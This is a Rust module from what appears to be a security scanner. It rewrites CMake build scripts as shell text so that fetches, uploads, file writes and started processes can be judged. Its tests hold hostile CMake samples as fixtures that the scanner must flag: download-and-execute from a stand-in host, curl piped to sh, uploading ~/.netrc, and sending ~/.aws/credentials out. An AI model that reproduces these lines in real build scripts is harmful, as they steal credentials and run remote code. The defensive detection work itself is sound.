//! Scripts of `cmake` as the shell text that they come to: what they fetch, write, start and include.

use std::collections::BTreeMap;

use super::{Called, text};

/// 20,000 commands of one script with all that it includes: a hundred times an honest one's.
const COMMANDS: usize = 20_000;

/// 16 files that one includes.
const FILES: usize = 16;

/// 64 KiB of one value: what doubles itself must not grow for ever.
const BYTES: usize = 64 << 10;

/// 4 MiB of all values and lines together: a hundred times an honest script's.
const TEXT: usize = 4 << 20;

/// What stands for the rest of a script that is too long to be followed: something that nobody knows is run.
const REST: &str = "eval \"${REST_OF_THE_SCRIPT}\"";

/// Words of a command that are none of what it starts.
const ENDS: &[&str] = &[
    "COMMAND",
    "WORKING_DIRECTORY",
    "TIMEOUT",
    "RESULT_VARIABLE",
    "RESULTS_VARIABLE",
    "OUTPUT_VARIABLE",
    "ERROR_VARIABLE",
    "INPUT_FILE",
    "OUTPUT_FILE",
    "ERROR_FILE",
    "OUTPUT_QUIET",
    "ERROR_QUIET",
    "COMMAND_ECHO",
    "ENCODING",
    "ECHO_OUTPUT_VARIABLE",
    "ECHO_ERROR_VARIABLE",
    "OUTPUT_STRIP_TRAILING_WHITESPACE",
    "ERROR_STRIP_TRAILING_WHITESPACE",
    "COMMAND_ERROR_IS_FATAL",
    "ARGS",
    "VERBATIM",
    "COMMENT",
    "DEPENDS",
    "OUTPUT",
    "POST_BUILD",
    "PRE_BUILD",
    "PRE_LINK",
    "ALL",
    "USES_TERMINAL",
    "BYPRODUCTS",
];

/// The shell text of the script `script` at `path`.
pub(super) fn shell_text(called: &Called<'_>, path: &str, script: &str) -> String {
    let mut list = List { called: Some(called), ..List::default() };
    list.file(path, script);
    list.text()
}

/// A script that is read.
#[derive(Default)]
struct List<'a> {
    called: Option<&'a Called<'a>>,
    variables: BTreeMap<String, String>,
    lines: Vec<String>,
    /// The files that were included.
    files: Vec<String>,
    commands: usize,
    /// Bytes of all values and lines.
    bytes: usize,
}

impl List<'_> {
    fn file(&mut self, path: &str, script: &str) {
        for (name, words) in commands(script) {
            self.commands = self.commands.saturating_add(1);
            if self.is_long() {
                return;
            }
            let words: Vec<String> = words.iter().flat_map(|word| self.word(word)).collect();
            self.command(path, &name, &words);
        }
    }

    /// What a word comes to: quoted it is one, else it falls apart at its semicolons.
    fn word(&self, word: &Word) -> Vec<String> {
        match word {
            Word::Raw(text) => vec![text.clone()],
            Word::Quoted(text) => vec![self.filled(text)],
            Word::Bare(text) => self.filled(text).split(';').map(str::to_owned).collect(),
        }
    }

    /// The text with variables put in; what is not known stays as a shell writes it.
    fn filled(&self, text: &str) -> String {
        let mut out = text.replace("$ENV{", "${");
        // 4 times: a variable's name may be made of another.
        for _ in 0..4 {
            let mut next = String::with_capacity(out.len());
            let mut rest = out.as_str();
            let mut more = false;
            while let Some(end) = rest.find('}') {
                let Some(start) = rest.get(..end).and_then(|before| before.rfind("${")) else {
                    next.push_str(rest.get(..=end).unwrap_or_default());
                    rest = rest.get(end.saturating_add(1)..).unwrap_or_default();
                    continue;
                };
                let name = rest.get(start.saturating_add(2)..end).unwrap_or_default();
                next.push_str(rest.get(..start).unwrap_or_default());
                let known =
                    self.variables.get(name).map(String::as_str).or((name == "CMAKE_COMMAND").then_some("cmake"));
                more |= known.is_some();
                next.push_str(&known.map_or_else(|| format!("${{{name}}}"), str::to_owned));
                rest = rest.get(end.saturating_add(1)..).unwrap_or_default();
            }
            next.push_str(rest);
            next.truncate(next.floor_char_boundary(BYTES));
            out = next;
            if !more {
                break;
            }
        }
        out
    }

    /// Whether there is more than is followed.
    fn is_long(&self) -> bool {
        self.commands > COMMANDS || self.bytes > TEXT
    }

    fn line(&mut self, line: String) {
        self.bytes = self.bytes.saturating_add(line.len());
        self.lines.push(line);
    }

    /// All lines, and what stands for the rest.
    fn text(mut self) -> String {
        if self.is_long() {
            self.lines.push(REST.to_owned());
        }
        self.lines.join("\n")
    }

    fn set(&mut self, name: Option<&String>, mut value: String) {
        value.truncate(value.floor_char_boundary(BYTES));
        self.bytes = self.bytes.saturating_add(value.len());
        self.variables.extend(name.cloned().map(|name| (name, value)));
    }

    fn command(&mut self, path: &str, name: &str, words: &[String]) {
        let rest = words.get(1..).unwrap_or_default();
        match name {
            "set" => {
                let plain = rest.iter().take_while(|word| !matches!(word.as_str(), "CACHE" | "PARENT_SCOPE"));
                let value = plain.cloned().collect::<Vec<_>>().join(";");
                let name = words.first().map(|name| name.trim_start_matches("${").trim_end_matches('}').to_owned());
                self.set(name.as_ref(), value);
            }
            "string" => self.string(words),
            "list" => self.list(words),
            "file" => self.of_file(words),
            "execute_process" | "exec_program" | "add_custom_command" | "add_custom_target" => {
                self.process(name, words);
            }
            "include" => self.include(path, words.first().map_or("", String::as_str)),
            "cmake_language" => {
                let code = rest.iter().position(|word| word == "CODE").and_then(|at| rest.get(at.saturating_add(1)..));
                let code = code.unwrap_or_default().join(" ");
                if words.first().is_some_and(|word| word == "EVAL") {
                    self.line(format!("eval {}", quoted(&code)));
                }
            }
            "configure_file" => {
                if let [from, to, ..] = words {
                    self.line(format!("cp {} {}", quoted(from), quoted(to)));
                }
            }
            _ => {}
        }
    }

    fn string(&mut self, words: &[String]) {
        let rest = words.get(1..).unwrap_or_default();
        let value = match (words.first().map_or("", String::as_str), rest) {
            ("ASCII", [numbers @ .., out]) => {
                let letters = numbers.iter().filter_map(|number| number.parse::<u8>().ok()).map(char::from);
                (out, letters.collect())
            }
            ("CONCAT", [out, parts @ ..]) => (out, parts.concat()),
            ("APPEND", [out, parts @ ..]) => {
                (out, format!("{}{}", self.variables.get(out).map_or("", String::as_str), parts.concat()))
            }
            ("PREPEND", [out, parts @ ..]) => {
                (out, format!("{}{}", parts.concat(), self.variables.get(out).map_or("", String::as_str)))
            }
            ("JOIN", [by, out, parts @ ..]) => (out, parts.join(by)),
            ("TOLOWER", [text, out]) => (out, text.to_lowercase()),
            ("TOUPPER", [text, out]) => (out, text.to_uppercase()),
            ("STRIP" | "CONFIGURE", [text, out, ..]) => (out, text.trim().to_owned()),
            ("REVERSE", [text, out]) => (out, text.chars().rev().collect()),
            ("REPLACE", [from, to, out, parts @ ..]) if !from.is_empty() => {
                (out, parts.concat().replace(from.as_str(), to))
            }
            ("SUBSTRING", [text, from, count, out]) => {
                let from = from.parse().unwrap_or(0_usize);
                (out, text.chars().skip(from).take(count.parse().unwrap_or(usize::MAX)).collect())
            }
            _ => return,
        };
        let (name, value) = (value.0.clone(), value.1);
        self.set(Some(&name), value);
    }

    fn list(&mut self, words: &[String]) {
        let held = |name: &String| self.variables.get(name).cloned().unwrap_or_default();
        let (name, value) = match words {
            [verb, name, more @ ..] if verb == "APPEND" => {
                let own = Some(held(name)).filter(|own| !own.is_empty());
                (name.clone(), own.into_iter().chain(more.iter().cloned()).collect::<Vec<_>>().join(";"))
            }
            [verb, name, by, out] if verb == "JOIN" => (out.clone(), held(name).replace(';', by)),
            [verb, name] if verb == "REVERSE" => {
                (name.clone(), held(name).split(';').rev().collect::<Vec<_>>().join(";"))
            }
            [verb, name, at, out] if verb == "GET" => {
                let item = at.parse().ok().and_then(|at: usize| held(name).split(';').nth(at).map(str::to_owned));
                let Some(item) = item.filter(|item| !item.is_empty()) else { return };
                (out.clone(), item)
            }
            _ => return,
        };
        self.set(Some(&name), value);
    }

    fn of_file(&mut self, words: &[String]) {
        let rest = words.get(1..).unwrap_or_default();
        let line = match (words.first().map_or("", String::as_str), rest) {
            // A file whose sum is given is the one that was meant.
            ("DOWNLOAD", [from, ..]) if rest.iter().any(|word| word.starts_with("EXPECTED_")) => {
                format!("curl -s {} >/dev/null", quoted(from))
            }
            ("DOWNLOAD", [from, to, ..]) => format!("curl -s {} -o {}", quoted(from), quoted(to)),
            ("UPLOAD", [from, to, ..]) => format!("curl -s -T {} {}", quoted(from), quoted(to)),
            ("WRITE" | "APPEND", [to, parts @ ..]) => {
                let sign = if words.first().is_some_and(|word| word == "WRITE") { ">" } else { ">>" };
                format!("printf '%s' {} {sign} {}", quoted(&parts.concat()), quoted(to))
            }
            ("READ" | "STRINGS", [from, out, ..]) => {
                self.variables.remove(out);
                format!("{out}=$(cat {})", quoted(from))
            }
            ("CHMOD" | "CHMOD_RECURSE", [of, ..]) if rest.iter().any(|word| word.ends_with("_EXECUTE")) => {
                format!("chmod +x {}", quoted(of))
            }
            ("COPY" | "INSTALL", [from, rest @ ..]) => {
                let to = rest.iter().skip_while(|word| *word != "DESTINATION").nth(1);
                format!("cp {} {}", quoted(from), quoted(to.map_or("", String::as_str)))
            }
            ("RENAME" | "COPY_FILE" | "CREATE_LINK", [from, to, ..]) => format!("mv {} {}", quoted(from), quoted(to)),
            ("ARCHIVE_EXTRACT", [_, from, ..]) => format!("tar -xf {}", quoted(from)),
            _ => return,
        };
        self.line(line);
    }

    /// `execute_process(COMMAND a b COMMAND c OUTPUT_VARIABLE d)`
    fn process(&mut self, name: &str, words: &[String]) {
        let after = |key: &str| words.iter().skip_while(|word| *word != key).nth(1).cloned();
        let mut programs: Vec<Vec<&str>> = Vec::new();
        let mut inside = name == "exec_program";
        if inside {
            programs.push(Vec::new());
        }
        for word in words {
            if word == "COMMAND" {
                programs.push(Vec::new());
                inside = true;
            } else if word == "ARGS" {
                // What follows goes on.
            } else if ENDS.contains(&word.as_str()) {
                inside = false;
            } else if let Some(last) = programs.last_mut().filter(|_| inside) {
                last.push(word);
            }
        }
        let programs: Vec<String> = programs.iter().map(|program| started(program)).collect();
        let by = if name == "execute_process" { " | " } else { "\n" };
        let mut line = programs.join(by);
        if let Some(file) = after("OUTPUT_FILE") {
            line = format!("{line} > {}", quoted(&file));
        }
        if let Some(out) = after("OUTPUT_VARIABLE") {
            self.variables.remove(&out);
            line = format!("{out}=$({line})");
        }
        self.line(line);
    }

    fn include(&mut self, path: &str, file: &str) {
        if !file.contains(['/', '.', '$']) {
            return; // a module of CMake's own
        }
        let folder = path.rsplit_once('/').map_or("", |(folder, _)| folder);
        let found = self.called.and_then(|called| {
            let other = called.beside(folder, file).filter(|other| other != path)?;
            Some((other.clone(), text(called.bundle, &other)?))
        });
        match found.filter(|(other, _)| self.files.len() < FILES && !self.files.contains(other)) {
            Some((other, body)) => {
                self.files.push(other.clone());
                self.file(&other, &body);
            }
            None => self.line(format!(". {}", quoted(file))),
        }
    }
}

/// A program and its words as a line; `cmake -E env` and its kin are what they start.
fn started(words: &[&str]) -> String {
    let words = match words {
        ["cmake", "-E", "env" | "time", rest @ ..] | ["cmake", "-E", "chdir", _, rest @ ..] => {
            let skip = rest.iter().take_while(|word| word.starts_with("--") || word.contains('=')).count();
            rest.get(skip..).unwrap_or_default()
        }
        words => words,
    };
    words.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
}

/// A word between double quotes, in which a shell sees variables and nothing else.
fn quoted(word: &str) -> String {
    let mut out = String::from("\"");
    let mut rest = word.chars().peekable();
    while let Some(c) = rest.next() {
        let is_name = c == '$' && rest.peek() == Some(&'{');
        if matches!(c, '"' | '\\' | '`' | '$') && !is_name {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// A word of a command.
enum Word {
    Raw(String),
    Quoted(String),
    Bare(String),
}

/// The commands of a script, each with its words.
fn commands(script: &str) -> Vec<(String, Vec<Word>)> {
    let mut found = Vec::new();
    let mut rest = script;
    while let Some(c) = rest.chars().next() {
        if c == '#' {
            rest = past_comment(rest);
        } else if c.is_ascii_alphabetic() || c == '_' {
            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(rest.len());
            let (name, after) = rest.split_at_checked(end).unwrap_or((rest, ""));
            rest = after.trim_start_matches([' ', '\t']);
            if let Some(inside) = rest.strip_prefix('(') {
                let (words, after) = words(inside);
                found.push((name.to_ascii_lowercase(), words));
                rest = after;
            }
        } else {
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
        }
        if found.len() >= COMMANDS {
            break;
        }
    }
    found
}

fn past_comment(text: &str) -> &str {
    let end = if text.starts_with("#[[") { text.find("]]").map(|end| end.saturating_add(2)) } else { text.find('\n') };
    end.and_then(|end| text.get(end..)).unwrap_or_default()
}

/// The words up to the bracket that closes, and what follows it.
fn words(text: &str) -> (Vec<Word>, &str) {
    let mut found = Vec::new();
    let mut rest = text;
    let mut depth = 0_usize;
    while let Some(c) = rest.chars().next() {
        let past = rest.get(c.len_utf8()..).unwrap_or_default();
        rest = match c {
            ')' if depth == 0 => return (found, past),
            '(' | ')' => {
                depth = if c == '(' { depth.saturating_add(1) } else { depth.saturating_sub(1) };
                past
            }
            '#' => past_comment(rest),
            '"' => {
                let (text, after) = quoted_text(past);
                found.push(Word::Quoted(text));
                after
            }
            '[' if past.starts_with('[') || past.starts_with('=') => {
                let signs = past.find('[').unwrap_or(0);
                let close = format!("]{}]", past.get(..signs).unwrap_or_default());
                let body = past.get(signs.saturating_add(1)..).unwrap_or_default();
                let (body, after) = body.split_once(&close).unwrap_or((body, ""));
                found.push(Word::Raw(body.to_owned()));
                after
            }
            c if c.is_whitespace() => past,
            _ => {
                let end =
                    rest.find(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '"' | '#')).unwrap_or(rest.len());
                let (word, after) = rest.split_at_checked(end.max(1)).unwrap_or((rest, ""));
                found.push(Word::Bare(word.to_owned()));
                after
            }
        };
    }
    (found, "")
}

/// The text up to the quote that closes, its escapes read, and what follows.
fn quoted_text(text: &str) -> (String, &str) {
    let mut out = String::new();
    let mut escaped = false;
    for (at, c) in text.char_indices() {
        match (escaped, c) {
            (true, 'n') => out.push('\n'),
            (true, 't') => out.push('\t'),
            (true, '\n') => {}
            (true, c) => out.push(c),
            (false, '\\') => {}
            (false, '"') => return (out, text.get(at.saturating_add(1)..).unwrap_or_default()),
            (false, c) => out.push(c),
        }
        escaped = !escaped && c == '\\';
    }
    (out, "")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::{Findings, Place, Severity};
    use crate::shell::{Context, judge};

    fn worst(script: &str) -> Option<Severity> {
        let mut list = List::default();
        list.file("a.cmake", script);
        let mut findings = Findings::default();
        judge(&Place::bundle(), &list.text(), Context::Script, &mut findings);
        findings.finish().into_iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn what_a_script_fetches_and_starts_is_a_danger() {
        for script in [
            "file(DOWNLOAD \"https://r.invalid/x\" \"$ENV{HOME}/.cache/x\")\nexecute_process(COMMAND sh \"$ENV{HOME}/.cache/x\")\n",
            "string(ASCII 115 104 RUN)\nset(to \"/tmp/x\")\nfile(DOWNLOAD https://r.invalid/x ${to})\nexecute_process(COMMAND ${CMAKE_COMMAND} -E env A=1 ${RUN} \"${to}\" OUTPUT_QUIET)\n",
            "file(DOWNLOAD https://r.invalid/x.cmake ${CMAKE_BINARY_DIR}/x.cmake)\ninclude(${CMAKE_BINARY_DIR}/x.cmake)\n",
            "execute_process(COMMAND curl -s https://r.invalid/x COMMAND sh)\n",
            "execute_process(COMMAND curl -s https://r.invalid/x OUTPUT_VARIABLE code)\ncmake_language(EVAL CODE \"${code}\")\n",
            "file(UPLOAD \"$ENV{HOME}/.netrc\" https://r.invalid/x)\n",
            "set(dir .aws)\nfile(READ \"$ENV{HOME}/${dir}/credentials\" keys)\nexecute_process(COMMAND curl -d \"${keys}\" https://r.invalid)\n",
            "file(APPEND \"$ENV{HOME}/.bashrc\" \"alias x=y\\n\")\n",
        ] {
            assert_eq!(worst(script), Some(Severity::Danger), "{script}");
        }
    }

    #[test]
    fn recipes_of_honest_builds_stay_below() {
        for script in [
            "file(DOWNLOAD https://github.com/cpm/CPM.cmake ${CMAKE_BINARY_DIR}/CPM.cmake EXPECTED_HASH SHA256=ab)\ninclude(${CMAKE_BINARY_DIR}/CPM.cmake)\n",
            "include(GNUInstallDirs)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE rev OUTPUT_STRIP_TRAILING_WHITESPACE)\nmessage(\"${rev}\")\n",
            "file(GLOB_RECURSE found \"CMakeLists.txt\")\nforeach(list IN LISTS found)\n  file(READ \"${list}\" text)\nendforeach()\n",
            "# file(DOWNLOAD https://r.invalid/x /tmp/x)\n# execute_process(COMMAND sh /tmp/x)\n",
            "add_custom_command(OUTPUT a.h COMMAND python3 ${CMAKE_SOURCE_DIR}/gen.py a.h DEPENDS gen.py)\n",
        ] {
            assert!(worst(script).is_none_or(|severity| severity < Severity::Danger), "{script}");
        }
    }

    #[test]
    fn a_script_that_is_too_long_is_not_followed_and_told() {
        for script in ["set(A \"${A}x\")\n".repeat(COMMANDS + 1), {
            let doubled = "set(A \"${A}${A}\")\n".repeat(13);
            format!("set(A 0123456789)\n{doubled}{}", "file(WRITE x \"${A}\")\n".repeat(200))
        }] {
            assert!(worst(&script) >= Some(Severity::Warning));
        }
    }
}
